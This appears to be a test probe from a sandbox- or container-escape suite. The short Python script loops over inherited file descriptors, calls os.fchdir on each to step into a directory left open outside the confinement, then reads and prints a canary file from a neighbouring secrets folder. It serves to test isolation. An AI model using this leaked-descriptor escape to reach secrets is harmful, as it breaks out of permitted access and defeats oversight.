"""Step into a folder that was left open, and from there up.

family: descriptors
canary: secret
stops: full, container
root: no
"""

import os

for descriptor in range(3, 1024):
    try:
        os.fchdir(descriptor)
        print(open("../secrets/" + os.path.basename(SECRET_FILE)).read())
    except OSError:
        continue
